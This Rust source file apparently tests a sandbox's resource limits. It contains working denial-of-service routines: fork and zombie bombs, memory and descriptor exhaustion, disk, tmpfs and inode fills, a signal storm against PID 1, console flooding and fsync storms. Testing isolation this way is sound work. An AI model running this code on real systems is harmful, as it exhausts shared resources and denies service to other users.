//! Attacks that take other users' share of the machine. Each runs without end. It prints that the
//! bomb is set once it has all that it can get.

use linux_raw_sys::general as raw;
use rustix::{
    fs::{CWD, Mode, OFlags},
    io::{Errno, Result},
    thread::Timespec,
};
use shim::{
    say,
    say::Text,
    sys::{Start, Stream},
};

use crate::call::{Table, c, call, call3, fork, open};

pub const ATTACKS: Table = &[
    ("take_memory", take_memory),
    ("take_processes", take_processes),
    ("fork_bomb", |_| bomb(true)),
    ("zombie_storm", |_| bomb(false)),
    ("memory_bomb", memory),
    ("fd_bomb", descriptors),
    ("tmpfs_fill", |_| fill(c"/tmp/fill")),
    ("disk_fill", |_| fill(c"/fill")),
    ("inode_fill", inodes),
    ("signal_storm", signals),
    ("console_flood", flood),
    ("sync_storm", syncs),
];

/// Takes more than half of the memory that users have on a machine of 256 MiB.
fn take_memory(_: Start) -> Result<()> {
    const BYTES: usize = 150 << 20;
    crate::call::aside(|| call(raw::__NR_mmap, [0, BYTES, 3, 0x8022, usize::MAX, 0]).map(drop))
}

/// Starts more than half of the processes that users may have on such a machine. They end when the
/// pipe is closed, or with the sandbox.
fn take_processes(_: Start) -> Result<()> {
    let (read, write) = rustix::pipe::pipe()?;
    let mut result = Ok(());
    for _ in 0..600 {
        match fork() {
            Ok(None) => {
                let _ = call3(raw::__NR_close, crate::call::number(&write), 0, 0);
                let _ = rustix::io::read(&read, &mut [0; 1]);
                shim::sys::exit(0)
            }
            Ok(Some(_)) => {}
            Err(errno) => {
                result = Err(errno);
                break;
            }
        }
    }
    result
}

pub fn set() {
    Stream(1).put("the bomb is set\n");
}

pub fn pause() -> ! {
    loop {
        let _ = rustix::thread::nanosleep(&Timespec { tv_sec: 600, tv_nsec: 0 });
    }
}

/// Starts as many processes as possible. With `stay` they go on forking, otherwise they end at once
/// and nobody reaps them.
fn bomb(stay: bool) -> Result<()> {
    let mut said = false;
    loop {
        match fork() {
            Ok(None) if stay => {
                // each child continues in this loop
                said = true;
            }
            Ok(None) => shim::sys::exit(0),
            Ok(Some(_)) => {}
            Err(_) => {
                if !said {
                    set();
                    said = true;
                }
                let _ = call(raw::__NR_sched_yield, [0; 6]);
            }
        }
    }
}

/// Starts one child after the other. Each takes memory until it is killed.
fn memory(_: Start) -> Result<()> {
    const PIECE: usize = 1 << 20;
    let mut times = 0_u32;
    loop {
        match fork() {
            Ok(None) => loop {
                // PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE
                let _ = call(raw::__NR_mmap, [0, PIECE, 3, 0x8022, usize::MAX, 0]);
            },
            Ok(Some(child)) => drop(crate::call::wait(child)),
            Err(_) => pause(),
        }
        times = times.saturating_add(1);
        if times == 2 {
            set();
        }
    }
}

/// Opens as many files as possible in each of as many children as possible, at most 65.
fn descriptors(_: Start) -> Result<()> {
    for children in 0_u32.. {
        match fork() {
            Ok(None) => {
                while let Ok(fd) = open(c"/dev/null", OFlags::RDONLY) {
                    core::mem::forget(fd);
                }
                pause()
            }
            Ok(Some(_)) if children < 64 => {}
            _ => break,
        }
    }
    set();
    pause()
}

fn fill(path: &core::ffi::CStr) -> Result<()> {
    let file = open(path, OFlags::WRONLY | OFlags::CREATE)?;
    let block = [0x5a; 4096];
    let mut said = false;
    loop {
        if rustix::io::write(&file, &block) == Err(Errno::NOSPC) && !said {
            set();
            said = true;
        }
    }
}

fn inodes(_: Start) -> Result<()> {
    let mut said = false;
    for number in 0_u32.. {
        let mut path = Text::new();
        say!(&mut path, "/tmp/", number, "\0");
        if rustix::fs::mkdirat(CWD, c(&path), Mode::RWXU) == Err(Errno::NOSPC) && !said {
            set();
            said = true;
        }
    }
    Ok(())
}

/// Sends signals to the sandbox's first process, which PID 1 started and also signals.
fn signals(_: Start) -> Result<()> {
    set();
    loop {
        for signal in [10, 15, 17, 2] {
            let _ = call3(raw::__NR_kill, 1, signal, 0);
        }
    }
}

fn flood(_: Start) -> Result<()> {
    set();
    loop {
        Stream(1).put("flood flood flood flood flood flood flood flood\n");
    }
}

/// Starts eight processes that write as fast as they can and call fsync each time. Each also
/// creates and removes a file.
fn syncs(_: Start) -> Result<()> {
    for process in 0..8_u32 {
        if let Ok(None) = fork() {
            let (mut path, mut other) = (Text::new(), Text::new());
            say!(&mut path, "/sync", process, "\0");
            say!(&mut other, "/other", process, "\0");
            let Ok(file) = open(c(&path), OFlags::RDWR | OFlags::CREATE) else { pause() };
            let block = [0x5a; 1 << 16];
            for at in (0..16_u64).cycle() {
                let _ = rustix::io::pwrite(&file, &block, at << 16);
                let _ = open(c(&other), OFlags::WRONLY | OFlags::CREATE);
                let _ = rustix::fs::unlink(c(&other));
                let _ = rustix::fs::fsync(&file);
            }
        }
    }
    let _ = rustix::thread::nanosleep(&Timespec { tv_sec: 5, tv_nsec: 0 });
    set();
    pause()
}
